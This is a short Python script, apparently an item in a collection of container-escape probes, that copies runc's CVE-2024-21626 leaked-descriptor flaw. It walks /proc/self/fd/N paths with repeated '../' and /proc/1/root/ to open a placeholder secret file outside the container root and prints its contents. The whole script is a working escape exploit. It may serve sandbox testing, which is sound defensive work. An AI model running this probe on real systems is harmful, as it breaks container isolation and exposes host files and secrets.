# attack: a folder's descriptor that was left open leads out of the root (as runc's CVE-2024-21626): /proc/self/fd/N/../..
# family: files
import os
up = "../" * 40
for fd in range(51):
    for way in (f"/proc/self/fd/{fd}/{up}", f"/proc/self/fd/{fd}/{up}proc/1/root/"):
        try:
            with open(way + "$SECRET_FILE".lstrip("/")) as f:
                print("REACHED", fd, os.readlink(f"/proc/self/fd/{fd}"))
                print(f.read())
        except OSError:
            pass
